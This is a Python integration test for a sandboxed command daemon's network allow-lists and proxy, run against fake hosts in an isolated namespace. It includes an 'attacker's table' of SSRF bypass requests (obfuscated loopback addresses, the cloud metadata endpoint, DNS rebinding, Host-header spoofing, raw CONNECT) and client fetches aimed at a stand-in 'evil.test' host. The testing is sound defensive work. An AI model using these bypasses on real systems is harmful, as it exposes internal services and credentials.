#!/usr/bin/env python3
"""
Network by name with real clients (protocol/PROTOCOL.md §7.1): curl,
Python's urllib, Debian's pip, npm and git, run as tools of the real
stexecd against servers this test starts, in a network namespace of its
own (tests/net/netns.py: no DNS, no outside host; exit 77 when it cannot
make one). Each case prints "ok NAME", "FAIL NAME" or "not run: NAME".

What runs on every daemon: each client straight against the servers (no
daemon), the attacker's table under `network: true` (each row shown to
have an effect), a dev server started as a job. What runs when
`initialize` reports `networkRules: true`: the same clients through the
daemon's proxy to an allowed host, their refusal for evil.test, the
attacker's table refused under allow-lists, `localhost:PORT`, and the
operator flags --network-deny and --network-allow-max.

  STEXEC_DAEMON=build/daemon/stexecd python3 tests/test_network.py
"""
import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(HERE, "net"))

import netns  # noqa: E402
import packages  # noqa: E402
import pki  # noqa: E402
import pydaemon  # noqa: E402
import sites  # noqa: E402
from pydaemon import Checks, Conn  # noqa: E402

T = Checks()
PROBE = os.path.join(HERE, "net", "probe.py")
# Debian's Python and pip, whatever python3 runs this test.
PY = "/usr/bin/python3"
NOT_RUN = []


@contextlib.contextmanager
def case(name):
    p0, f0 = T.passed, T.failed
    try:
        yield
    except Exception:
        T.check(False, "%s raised:\n%s" % (name, traceback.format_exc()))
    n = T.passed + T.failed - p0 - f0
    print("%s %s (%d checks)" % ("ok  " if T.failed == f0 else "FAIL",
                                 name, n), flush=True)


def not_run(name, why):
    NOT_RUN.append(name)
    print("not run: %s: %s" % (name, why), flush=True)


class Fixtures:
    """The CA, the packages, the servers, the hosts file; all under one
    temporary directory, removed at the end."""

    def __init__(self):
        self.tmp = tempfile.mkdtemp(prefix="stexec-net-")
        self.home = os.path.join(self.tmp, "home")
        os.makedirs(self.home)
        self.hosts = netns.setup(self.tmp)
        self.ca, cert, key = pki.make(self.tmp)
        env = self.env(dict(os.environ))
        wheel = packages.wheel(self.tmp)
        tgz = packages.npm_tarball(self.tmp, env)
        git_root = packages.git_repo(self.tmp, env)
        content = sites.Content(wheel, tgz, git_root, self.home)
        self.has_npm = tgz is not None
        self.world = sites.World(content, cert, key)
        self.loopback_port = 80

    def env(self, base=None):
        """What every client is given: the CA, a private HOME and caches,
        none of the host's pip settings (None: unset)."""
        e = dict(base or {})
        ca = self.ca if hasattr(self, "ca") else ""
        e.update({
            "SSL_CERT_FILE": ca, "CURL_CA_BUNDLE": ca, "PIP_CERT": ca,
            # requests prefers it to pip's own --cert.
            "REQUESTS_CA_BUNDLE": ca,
            "PIP_CONFIG_FILE": os.devnull, "PIP_FIND_LINKS": None,
            "npm_config_cafile": ca, "GIT_SSL_CAINFO": ca,
            "NODE_EXTRA_CA_CERTS": ca,
            "HOME": self.home,
            "npm_config_cache": os.path.join(self.home, ".npm"),
            "npm_config_audit": "false", "npm_config_fund": "false",
            "npm_config_update_notifier": "false",
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
            # A refusal is final: no retries with back-off.
            "PIP_RETRIES": "0", "npm_config_fetch_retries": "0",
            "GIT_CONFIG_NOSYSTEM": "1", "GIT_TERMINAL_PROMPT": "0",
            "PYTHONDONTWRITEBYTECODE": "1",
        })
        if base is not None:
            e = {k: v for k, v in e.items() if v is not None}
        return e

    def cwd(self):
        return tempfile.mkdtemp(dir=self.tmp, prefix="cwd-")

    def close(self):
        self.world.stop()
        shutil.rmtree(self.tmp, ignore_errors=True)


def wrap(cmd):
    """Run cmd in a fresh directory; its status on the last line."""
    return ('d=$(mktemp -d -p .) && cd "$d" && { %s ; } 2>&1; '
            'echo "[rc=$?]"' % cmd)


def rc_of(out):
    tail = out.rstrip().rsplit("[rc=", 1)
    return int(tail[1].rstrip("]")) if len(tail) == 2 else None


# --- the clients -------------------------------------------------------

def clients(www, pypi, reg, git, socks=False):
    """(name, command, what its output shows when it got through), for
    the given hosts (all evil.test for the refusal case)."""
    site = {h: h for h in (www, pypi, reg, git)}
    rows = [
        ("curl https", "curl -sS --fail -m 20 https://%s/hello" % www,
         "hello from " + site[www]),
        ("curl http", "curl -sS --fail -m 20 http://%s/hello" % www,
         "hello from " + site[www]),
        ("python urllib",
         "%s -c 'import urllib.request as u; print(u.urlopen("
         "\"https://%s/hello\", timeout=20).read().decode())'" % (PY, www),
         "hello from " + site[www]),
        ("pip download",
         "%s -m pip download -q --no-cache-dir --no-deps -d dl "
         "--index-url https://%s/simple/ %s && ls dl"
         % (PY, pypi, packages.NAME), packages.WHEEL),
        ("npm view", "npm view %s version --registry https://%s/"
         % (packages.NAME, reg), "1.0.0"),
        ("npm install",
         "npm install --silent %s --registry https://%s/ && "
         "node -p 'require(\"%s\")'" % (packages.NAME, reg, packages.NAME),
         "nettest-pkg from registry.test"),
        ("git clone", "git clone -q https://%s/repo.git && cat repo/README"
         % git, packages.README.strip()),
    ]
    if socks:
        rows += [
            ("curl socks5-hostname",
             'curl -sS --fail -m 20 --socks5-hostname "${ALL_PROXY#*://}" '
             "https://%s/hello" % www, "hello from " + site[www]),
            ("curl -x ALL_PROXY",
             'curl -sS --fail -m 20 -x "$ALL_PROXY" https://%s/hello' % www,
             "hello from " + site[www]),
        ]
    return rows


def run_direct(fx, cmds):
    """Each command straight from the test (no daemon), in parallel."""
    env = fx.env(dict(os.environ))
    procs = [subprocess.Popen(["/bin/sh", "-c", wrap(c)], env=env,
                              cwd=fx.cwd(), stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True)
             for c in cmds]
    return [(p.communicate(timeout=pydaemon.scaled(120))[0], None)
            for p in procs]


NEXT = [0]


def tooldef(fx, network, name="sh"):
    return {"name": name, "command": ["/bin/sh", "-c", "{cmd}"],
            "inputSchema": {"type": "object", "required": ["cmd"],
                            "properties": {"cmd": {"type": "string"}}},
            "timeoutMs": 120000, "maxResultBytes": 1000000,
            "sandbox": {"mode": "workspace-write", "network": network,
                        "writableRoots": [fx.home]}}


def session(c, fx, network, extra=()):
    env = fx.env()
    for k in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
        env[k] = env[k.lower()] = None
    return c.ok("createSession", tools=[tooldef(fx, network)] + list(extra),
                cwd=fx.cwd(), env=env)["sessionId"]


def run_tools(c, sid, cmds):
    """Each command as a tool call of one turn: [(output, meta)]."""
    ids = []
    for cmd in cmds:
        NEXT[0] += 1
        ids.append("n%d" % NEXT[0])
        c.ok("addTool", sessionId=sid, toolUse={
            "id": ids[-1], "name": "sh", "input": {"cmd": wrap(cmd)}})
    c.ok("drain", sessionId=sid)
    out = {}
    for n in c.ok("events", sessionId=sid)["notifications"]:
        if n["method"] == "tool_result":
            p = n["params"]
            out[p["toolUseId"]] = (p["result"]["content"], p["meta"])
    return [out[i] for i in ids]


def names(meta, key):
    return [(e.get("host"), e.get("port"))
            for e in (meta.get("network") or {}).get(key) or []]


def check_clients(rows, results, want_ok, label, reached=None):
    for (name, cmd, marker), (out, meta) in zip(rows, results):
        rc = rc_of(out)
        if want_ok:
            T.check(rc == 0 and marker in out, "%s: %s gets through: %s\n%s"
                    % (label, name, cmd, out))
            if reached is not None:
                T.check(any(h == reached for h, _ in names(meta, "reached")),
                        "%s: %s: meta.network.reached names %s: %r"
                        % (label, name, reached, meta.get("network")))
        else:
            T.check(rc != 0 and marker not in out, "%s: %s is refused: %s\n%s"
                    % (label, name, cmd, out))
            if reached is not None:
                T.check(any(h == reached for h, _ in names(meta, "refused")),
                        "%s: %s: meta.network.refused names %s: %r"
                        % (label, name, reached, meta.get("network")))


def direct_clients(fx):
    rows = clients("www.test", "pypi.test", "registry.test", "git.test")
    evil = clients("evil.test", "evil.test", "evil.test", "evil.test")
    if not fx.has_npm:
        not_run("npm clients", "npm is missing")
        rows = [r for r in rows if not r[0].startswith("npm")]
        evil = [r for r in evil if not r[0].startswith("npm")]
    with case("direct: every client reaches the test servers"):
        check_clients(rows, run_direct(fx, [r[1] for r in rows]), True,
                      "direct")
    # The refusal case's clients would see evil.test's pages if nothing
    # stopped them: its checks can fail.
    with case("direct: the same clients reach evil.test unhindered"):
        check_clients(evil, run_direct(fx, [r[1] for r in evil]), True,
                      "direct evil")


# --- the attacker's table ---------------------------------------------

def curl(url, extra=""):
    return ("curl -sS -m 20 %s -w '\\n[code=%%{http_code} "
            "connect=%%{http_connect}]' '%s'" % (extra, url))


def probe(*args):
    return "%s %s %s" % (PY, PROBE, " ".join(args))


def table(fx, token):
    """(name, command, got-through check, is-refused check, host the
    proxy should name or None). Rows refused under POLICY_A unless their
    name says POLICY_B."""
    def page(marker):
        return lambda out, w: marker in out

    def http_refused(host):
        def f(out):
            return (("code=403" in out and host in out)
                    or "connect=403" in out)
        return f

    def errno_refused(out):
        return "ERRNO" in out and "OK" not in out and \
            "ECONNREFUSED" not in out

    def udp_reached(out, w):
        return "OK sent" in out and token.encode() in w.udp.datagrams

    def udp_refused(out, w=None):
        return errno_refused(out) and token.encode() not in \
            fx.world.udp.datagrams

    loop = "loopback server"
    meta_page = "ami-id"
    rows = [
        ("127.0.0.1 as decimal", curl("http://2130706433/"), page(loop),
         http_refused("127.0.0.1"), None),
        ("127.0.0.1 as octal", curl("http://0177.0.0.1/"), page(loop),
         http_refused("127.0.0.1"), None),
        ("127.0.0.1 as hex", curl("http://0x7f.0.0.1/"), page(loop),
         http_refused("127.0.0.1"), None),
        ("127.0.0.1 short", curl("http://127.1/"), page(loop),
         http_refused("127.0.0.1"), None),
        ("127.0.0.1 as mapped IPv6", curl("http://[::ffff:127.0.0.1]/"),
         page(loop), lambda out: "code=403" in out or "connect=403" in out,
         None),
        ("localhost on a port outside its rule", curl("http://localhost/"),
         page(loop), http_refused("localhost"), "localhost"),
        ("metadata service by address",
         curl("http://169.254.169.254/latest/meta-data/"), page(meta_page),
         http_refused("169.254.169.254"), None),
        ("meta.test (allowed name, link-local address)",
         curl("http://meta.test/latest/meta-data/"), page(meta_page),
         http_refused("meta.test"), "meta.test"),
        ("rebind.test (allowed name, loopback address)",
         curl("http://rebind.test/"), page(loop), http_refused("rebind.test"),
         "rebind.test"),
        ("Host: www.test to evil.test",
         curl("http://evil.test/hello",
              '${HTTP_PROXY:+-x "$HTTP_PROXY"} -H "Host: www.test"'),
         page("hello from evil.test"), http_refused("evil.test"),
         "evil.test"),
        ("www.test on a port outside the rule",
         curl("https://www.test:8443/hello"), page("hello from www.test"),
         http_refused("www.test"), "www.test"),
        ("POLICY_B: the wildcard's own base name",
         curl("http://www.test/hello"), page("hello from www.test"),
         http_refused("www.test"), "www.test"),
        ("POLICY_B: a look-alike outside the wildcard",
         curl("http://evilwww.test/hello"), page("hello from evil.test"),
         http_refused("evilwww.test"), "evilwww.test"),
        ("UDP to 198.18.0.20:53",
         probe("udp", "198.18.0.20", "53", token), udp_reached, udp_refused,
         None),
        ("direct connect to 198.18.0.13:443",
         probe("tcp", "198.18.0.13", "443"), page("OK connected"),
         errno_refused, None),
        ("direct connect to evil.test on the proxy's port",
         probe("tcp", "198.18.0.20", "proxy"), page("OK connected"),
         errno_refused, None),
        ("raw or ping socket to 198.18.0.20",
         probe("icmp", "198.18.0.20"), page("OK echo reply"),
         lambda out: "ERRNO" in out and "OK" not in out, None),
    ]
    return rows


def table_open(d, fx):
    """Every row of the table gets through with network: true, so that
    the allow-list half sees an effect it stops."""
    with case("attacker's table works under network: true"):
        c = Conn(d.sock)
        sid = session(c, fx, True)
        rows = table(fx, "open-%d" % os.getpid())
        results = run_tools(c, sid, [r[1] for r in rows])
        for (name, cmd, ok, _, _), (out, meta) in zip(rows, results):
            T.check(ok(out, fx.world), "network: true: %s gets through: "
                    "%s\n%s" % (name, cmd, out))
        # The Host: header row reached evil.test, not www.test's server.
        T.check(("GET", "/hello", "www.test") in fx.world.hits("evil.test"),
                "evil.test got the request with Host: www.test")
        c.ok("closeSession", sessionId=sid)
        c.close()


def table_rules(d, fx, devport):
    with case("attacker's table refused under allow-lists"):
        c = Conn(d.sock)
        pol_a = {"allow": ["www.test", "localhost:%d" % devport,
                           "rebind.test", "meta.test", "nosuch.test"]}
        pol_b = {"allow": ["*.www.test"]}
        sid_a = session(c, fx, pol_a)
        sid_b = session(c, fx, pol_b)
        token = "rules-%d" % os.getpid()
        rows = table(fx, token)
        a = [r for r in rows if not r[0].startswith("POLICY_B")]
        b = [r for r in rows if r[0].startswith("POLICY_B")]
        # The literal spellings straight to the proxy (curl rewrites them).
        raw = [
            ("GET http://2130706433/ to the proxy",
             probe("raw", "'GET http://2130706433/ HTTP/1.1\\r\\nHost: "
                   "2130706433\\r\\nConnection: close\\r\\n\\r\\n'")),
            ("CONNECT 0x7f.1:80 to the proxy",
             probe("raw", "'CONNECT 0x7f.1:80 HTTP/1.1\\r\\nHost: "
                   "0x7f.1:80\\r\\n\\r\\n'")),
            ("CONNECT [::ffff:7f00:1]:80 to the proxy",
             probe("raw", "'CONNECT [::ffff:7f00:1]:80 HTTP/1.1\\r\\nHost: "
                   "[::ffff:7f00:1]:80\\r\\n\\r\\n'")),
        ]
        for sid, part in ((sid_a, a), (sid_b, b)):
            for (name, cmd, ok, refused, host), (out, meta) in zip(
                    part, run_tools(c, sid, [r[1] for r in part])):
                T.check(refused(out) and not ok(out, fx.world),
                        "allow-list: %s is refused: %s\n%s" % (name, cmd, out))
                if host is not None:
                    T.check(any(h == host for h, _ in names(meta, "refused")),
                            "allow-list: %s: meta.network.refused names %s: "
                            "%r" % (name, host, meta.get("network")))
        for (name, cmd), (out, meta) in zip(raw, run_tools(
                c, sid_a, [r[1] for r in raw])):
            T.check(" 403 " in out.split("\n", 1)[0] and loop_free(out),
                    "allow-list: %s is refused: %s\n%s" % (name, cmd, out))
        # An allowed name that does not resolve: failed, not refused.
        (out, meta), = run_tools(c, sid_a, [curl("http://nosuch.test/")])
        failed = (meta.get("network") or {}).get("failed") or []
        T.check("code=502" in out and [(e["host"], e["port"],
                e["connections"]) for e in failed] ==
                [("nosuch.test", 80, 1)] and "cannot resolve" in
                failed[0]["why"] and not names(meta, "refused"),
                "allow-list: nosuch.test fails (502) and meta.network.failed "
                "says why: %s %r" % (out, meta.get("network")))
        # The wildcard lets its sub-domains through (the rows can fail).
        (out, meta), = run_tools(c, sid_b, [curl("http://sub.www.test/hello")])
        T.check("hello from www.test" in out and
                ("sub.www.test", 80) in names(meta, "reached"),
                "allow-list: *.www.test reaches sub.www.test: %s %r"
                % (out, meta.get("network")))
        for sid in (sid_a, sid_b):
            c.ok("closeSession", sessionId=sid)
        c.close()


def loop_free(out):
    return "loopback server" not in out


# --- localhost:PORT, a dev server run as a job ------------------------

def serve_tool():
    return {"name": "serve", "background": True, "sandbox": "none",
            "command": [PY, "-m", "http.server", "{port}", "--bind",
                        "127.0.0.1"],
            "inputSchema": {"type": "object", "required": ["port"],
                            "properties": {"port": {"type": "string"}}}}


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def wait_listening(port):
    deadline = time.monotonic() + pydaemon.scaled(30)
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return True
        except OSError:
            time.sleep(0.05)
    return False


def dev_server(d, fx, rules, label):
    """A dev server started as a job of the session (sandbox none), then
    curl to it by localhost:PORT and to the loopback server's port 80;
    with rules, the session allows only localhost:PORT."""
    with case(label):
        c = Conn(d.sock)
        port = free_port()
        network = {"allow": ["localhost:%d" % port]} if rules else True
        sid = session(c, fx, network, [serve_tool()])
        NEXT[0] += 1
        c.ok("addTool", sessionId=sid, toolUse={
            "id": "n%d" % NEXT[0], "name": "serve",
            "input": {"port": str(port)}})
        c.ok("drain", sessionId=sid)
        jobs = c.ok("listJobs", sessionId=sid)["jobs"]
        T.check(wait_listening(port), "the dev server job listens")
        (ok_out, ok_meta), (other, other_meta) = run_tools(c, sid, [
            curl("http://localhost:%d/" % port), curl("http://localhost/")])
        T.check("Directory listing" in ok_out,
                "localhost:%d reaches the dev server: %s" % (port, ok_out))
        if not rules:
            T.check("loopback server" in other, "network: true: localhost:80 "
                    "is reachable (the rule's row can fail): " + other)
        else:
            T.check(("localhost", port) in names(ok_meta, "reached"),
                    "meta.network.reached names localhost:%d: %r"
                    % (port, ok_meta.get("network")))
            T.check("code=403" in other and "loopback server" not in other,
                    "localhost on another port is refused: " + other)
            T.check(("localhost", 80) in names(other_meta, "refused"),
                    "meta.network.refused names localhost:80: %r"
                    % other_meta.get("network"))
        for j in jobs:
            c.ok("signalJob", sessionId=sid, jobId=j["jobId"], signal="kill")
        c.ok("closeSession", sessionId=sid)
        c.close()


# --- through the proxy ------------------------------------------------

def proxied_clients(d, fx):
    with case("clients through the proxy to allowed hosts"):
        c = Conn(d.sock)
        sid = session(c, fx, {"allow": ["www.test", "pypi.test",
                                        "registry.test", "git.test"]})
        rows = clients("www.test", "pypi.test", "registry.test", "git.test",
                       socks=True)
        if not fx.has_npm:
            rows = [r for r in rows if not r[0].startswith("npm")]
        results = run_tools(c, sid, [r[1] for r in rows])
        for row, res in zip(rows, results):
            host = {"pip download": "pypi.test", "git clone": "git.test"}.get(
                row[0], "registry.test" if row[0].startswith("npm")
                else "www.test")
            check_clients([row], [res], True, "proxy", host)
        # The proxy's settings as net.md gives them.
        (out, _), = run_tools(c, sid, ["env | grep -i _proxy= | sort"])
        for k in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
            T.check(k + "=" in out and k.lower() + "=" in out,
                    "%s in both cases: %s" % (k, out))
        c.ok("closeSession", sessionId=sid)
        c.close()
    with case("the same clients refused for evil.test"):
        c = Conn(d.sock)
        sid = session(c, fx, {"allow": ["www.test", "pypi.test",
                                        "registry.test", "git.test"]})
        before = len(fx.world.hits("evil.test"))
        rows = clients("evil.test", "evil.test", "evil.test", "evil.test",
                       socks=True)
        if not fx.has_npm:
            rows = [r for r in rows if not r[0].startswith("npm")]
        results = run_tools(c, sid, [r[1] for r in rows])
        check_clients(rows, results, False, "proxy", "evil.test")
        (out, meta), = run_tools(c, sid, [
            "curl -sS -m 20 -w '\\n[code=%{http_code}]' "
            "http://evil.test/hello"])
        T.check("code=403" in out and "evil.test:80" in out and
                "hello from" not in out,
                "curl sees 403 naming evil.test:80: " + out)
        (out, meta), = run_tools(c, sid, [probe(
            "raw", "'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443"
            "\\r\\n\\r\\n'")])
        T.check(" 403 " in out.split("\n", 1)[0] and "evil.test:443" in out,
                "a CONNECT's 403 names evil.test:443: " + out)
        T.eq(len(fx.world.hits("evil.test")) - before, 0,
             "requests evil.test got from the allow-list tools")
        c.ok("closeSession", sessionId=sid)
        c.close()


# A tool's tunnel and proxy port across a reload: "one" before SIGHUP,
# "two" on the same tunnel after it, "three" on a new one.
RELOAD_TOOL = r"""
import os, socket, time
port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
def tunnel():
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"CONNECT www.test:%d HTTP/1.1\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    assert b" 200 " in head.split(b"\r\n")[0], head
    return s
def echo(s, word):
    s.sendall(word + b"\n")
    got = b""
    while not got.endswith(b"\n"):
        chunk = s.recv(100)
        if not chunk:
            raise SystemExit("the tunnel closed after " + repr(got))
        got += chunk
    return got.strip().decode()
s = tunnel()
out = [echo(s, b"one")]
os.write(3, b'{"progress": "ready"}\n')
while not os.path.exists(%r):
    time.sleep(0.01)
out.append(echo(s, b"two"))
out.append(echo(tunnel(), b"three"))
print(" ".join(out))
"""


def echo_server(addr):
    """A TCP echo server on addr, in a thread; its socket."""
    import socketserver
    import threading

    class Echo(socketserver.StreamRequestHandler):
        def handle(self):
            for line in self.rfile:
                self.wfile.write(line)

    socketserver.ThreadingTCPServer.allow_reuse_address = True
    srv = socketserver.ThreadingTCPServer(addr, Echo)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


def reload_carries(d, fx):
    with case("a reload carries the proxy's port and an open tunnel, of two "
              "tools sharing the session's namespace"):
        port = free_port()
        srv = echo_server(("198.18.0.13", port))
        go = os.path.join(fx.tmp, "go-reload")
        script = os.path.join(fx.tmp, "reload_tool.py")
        with open(script, "w") as f:
            f.write(RELOAD_TOOL % (port, go))
        c = Conn(d.sock)
        policy = {"allow": ["www.test:%d" % port]}
        par = tooldef(fx, policy, "par")
        par["concurrencySafe"] = True
        sid = session(c, fx, policy, [par])
        for _ in range(2):
            NEXT[0] += 1
            c.ok("addTool", sessionId=sid, toolUse={
                "id": "n%d" % NEXT[0], "name": "par",
                "input": {"cmd": "%s %s" % (PY, script)}})
        deadline = time.monotonic() + pydaemon.scaled(60)
        ready = 0
        while ready < 2 and time.monotonic() < deadline:
            ready = sum(n["method"] == "progress" for n in
                        c.ok("events", sessionId=sid)["notifications"])
            time.sleep(0.02)
        T.eq(ready, 2, "both tools' tunnels are open before the reload")
        before = c.ok("initialize")["server"].get("instance")
        d.proc.send_signal(signal.SIGHUP)
        while time.monotonic() < deadline and \
                c.ok("initialize")["server"].get("instance") == before:
            time.sleep(0.02)
        T.check(c.ok("initialize")["server"].get("instance") != before,
                "the daemon reloaded")
        open(go, "w").close()
        c.ok("drain", sessionId=sid)
        res = [n["params"] for n in c.ok("events", sessionId=sid)[
            "notifications"] if n["method"] == "tool_result"]
        T.eq(len(res), 2, "two results")
        for r in res:
            out = r["result"]["content"]
            T.check("one two three" in out, "the same tunnel and the same "
                    "port served after the reload: " + out)
            reached = (r["meta"].get("network") or {}).get("reached", [])
            T.check([(e["host"], e["port"], e["connections"])
                     for e in reached] == [("www.test", port, 2)],
                    "the tally went on across the reload: %r" % reached)
        c.ok("closeSession", sessionId=sid)
        c.close()
        srv.shutdown()
        srv.server_close()


def job_keeps_proxy(d, fx):
    """A call that becomes a job keeps its way out: its proxy goes with it
    (a job fetches after its result, once the test says so)."""
    with case("a background job keeps its proxy after its result and "
              "across a reload"):
        c = Conn(d.sock)
        go = os.path.join(fx.tmp, "go-job")
        bg = dict(tooldef(fx, {"allow": ["www.test"]}, "bg"),
                  background=True, yieldMs=0)
        sid = session(c, fx, {"allow": ["www.test"]}, [bg])
        NEXT[0] += 1
        c.ok("addTool", sessionId=sid, toolUse={
            "id": "n%d" % NEXT[0], "name": "bg", "input": {"cmd": wrap(
                "while [ ! -e %s ]; do sleep 0.01; done; %s" % (
                    go, curl("https://www.test/hello")))}})
        c.ok("drain", sessionId=sid)
        res = [n["params"] for n in c.ok("events", sessionId=sid)[
            "notifications"] if n["method"] == "tool_result"]
        T.check(res and res[-1]["meta"].get("reason") == "background",
                "the call became a job: %r" % (res[-1]["meta"] if res
                                               else None))
        jid = res[-1]["meta"]["job"]["jobId"] if res else None
        before = c.ok("initialize")["server"].get("instance")
        d.proc.send_signal(signal.SIGHUP)
        deadline = time.monotonic() + pydaemon.scaled(60)
        while time.monotonic() < deadline and \
                c.ok("initialize")["server"].get("instance") == before:
            time.sleep(0.02)
        T.check(c.ok("initialize")["server"].get("instance") != before,
                "the daemon reloaded")
        open(go, "w").close()
        text, deadline = "", time.monotonic() + pydaemon.scaled(60)
        while jid and "[rc=" not in text and time.monotonic() < deadline:
            text = c.ok("readJob", sessionId=sid, jobId=jid, since=0,
                        waitMs=1000)["text"]
        T.check("hello from" in text and rc_of(text) == 0,
                "the job fetched through its proxy after its result: "
                + text)
        c.ok("closeSession", sessionId=sid)
        c.close()


def operator_flags(path, fx):
    with case("operator flags --network-deny and --network-allow-max"):
        d = start(path, ["--network-hosts", fx.hosts, "--network-deny",
                         "www.test", "--network-allow-max", "*.test"])
        try:
            T.check(d is not None, "the daemon starts with both flags")
            c = Conn(d.sock)
            sid = session(c, fx, {"allow": ["www.test"]})
            (out, meta), = run_tools(c, sid, [curl("https://www.test/hello")])
            T.check("connect=403" in out and "hello from" not in out,
                    "--network-deny www.test wins over an allow: " + out)
            T.check(("www.test", 443) in names(meta, "refused"),
                    "meta.network.refused names www.test:443: %r"
                    % meta.get("network"))
            c.ok("closeSession", sessionId=sid)
            e = c.call("createSession", tools=[tooldef(
                fx, {"allow": ["example.org"]})], cwd=fx.cwd())
            err = e.get("error") or {}
            T.check(err.get("code") == -32602 and "example.org" in
                    err.get("message", ""),
                    "an allow outside --network-allow-max is refused, "
                    "naming the rule: %r" % e)
            c.close()
            T.eq(d.leftovers(), [], "no tool process is left")
        finally:
            stop(d)
        # The operator's own tools too: a --tools-dir file outside
        # --network-allow-max stops the start, naming the tool and host.
        tools = tempfile.mkdtemp(dir=fx.tmp, prefix="tools-")
        with open(os.path.join(tools, "wide.json"), "w") as f:
            json.dump(tooldef(fx, {"allow": ["example.org"]}, "wide"), f)
        p = subprocess.run(
            [path, "--socket", os.path.join(tools, "s.sock"), "--state-dir",
             os.path.join(tools, "state"), "--tools-dir", tools,
             "--network-hosts", fx.hosts, "--network-allow-max", "*.test"],
            stdin=subprocess.DEVNULL, capture_output=True,
            timeout=pydaemon.scaled(120))
        err = p.stderr.decode("utf-8", "replace")
        T.check(p.returncode != 0 and "tool wide:" in err and "example.org"
                in err, "a --tools-dir tool outside --network-allow-max "
                "stops the start, naming it: rc %d: %s" % (p.returncode, err))


# --- the daemon -------------------------------------------------------

def start(path, args, wrap=()):
    """A daemon on a private socket; None if it exited (an option it does
    not know)."""
    d = pydaemon.Daemon(path, args, wrap)
    d.start()
    deadline = time.monotonic() + pydaemon.scaled(30)
    while time.monotonic() < deadline:
        if d.proc.poll() is not None:
            d.log.close()
            shutil.rmtree(d.tmp, ignore_errors=True)
            return None
        if os.path.exists(d.sock):
            return d
        time.sleep(0.02)
    return d


def stop(d):
    if d is None:
        return
    rc = d.stop()
    T.eq(rc, 0, "the daemon's exit status after SIGTERM")
    if T.failed:
        print("daemon log (tail):\n" + d.log_tail(), file=sys.stderr)
    shutil.rmtree(d.tmp, ignore_errors=True)


def network_rules(d):
    c = Conn(d.sock)
    caps = c.ok("initialize")["capabilities"]
    c.close()
    sb = caps.get("enforcement", {}).get("sandbox", {})
    rules = sb.get("networkRules")
    if rules is None:
        not_run("initialize reports networkRules", "it does not")
        return False, "initialize does not report networkRules"
    with case("initialize reports networkRules"):
        T.check(isinstance(rules, bool), "networkRules is a boolean")
        if rules is False:
            why = (sb.get("whyNot") or {}).get("networkRules")
            T.check(isinstance(why, str) and why != "",
                    "whyNot.networkRules says why: %r" % why)
            return False, "networkRules is false: %s" % why
    return True, None


def body(path, fx):
    direct_clients(fx)
    d = start(path, ["--network-hosts", fx.hosts])
    why = None
    if d is None:
        why = "the daemon does not take --network-hosts"
        d = start(path, [])
    try:
        rules, why2 = network_rules(d)
        why = why or why2
        table_open(d, fx)
        dev_server(d, fx, False, "a dev server job on localhost, "
                   "network: true")
        if rules:
            proxied_clients(d, fx)
            table_rules(d, fx, free_port())
            dev_server(d, fx, True, "localhost:PORT reaches a dev server "
                       "job, no other port")
            reload_carries(d, fx)
            job_keeps_proxy(d, fx)
        else:
            for name in ("clients through the proxy to allowed hosts",
                         "the same clients refused for evil.test",
                         "attacker's table refused under allow-lists",
                         "localhost:PORT reaches a dev server job, no other "
                         "port",
                         "a reload carries the proxy's port and an open "
                         "tunnel",
                         "a background job keeps its proxy after its result",
                         "operator flags --network-deny and "
                         "--network-allow-max"):
                not_run(name, why)
        T.eq(d.leftovers(), [], "no tool process is left")
    finally:
        stop(d)
    if rules:
        operator_flags(path, fx)


def main():
    path = os.environ.get("STEXEC_DAEMON")
    if not path:
        print("STEXEC_DAEMON is not set: skipped")
        return netns.SKIP
    path = os.path.abspath(path)
    netns.enter([os.path.abspath(__file__)] + sys.argv[1:])
    for tool in ("openssl", "git", "curl"):
        if not shutil.which(tool):
            netns.skip(tool + " is missing")
    if subprocess.run([PY, "-m", "pip", "--version"],
                      capture_output=True).returncode != 0:
        netns.skip("Debian's pip (python3-pip) is missing")
    fx = Fixtures()
    try:
        body(path, fx)
    except Exception:
        T.check(False, "raised:\n" + traceback.format_exc())
    finally:
        fx.close()
    if NOT_RUN:
        print("not run (%d): %s" % (len(NOT_RUN), "; ".join(NOT_RUN)))
    print("%d passed, %d failed" % (T.passed, T.failed))
    if T.failed:
        return 1
    return 0 if T.passed else netns.SKIP


if __name__ == "__main__":
    sys.exit(main())
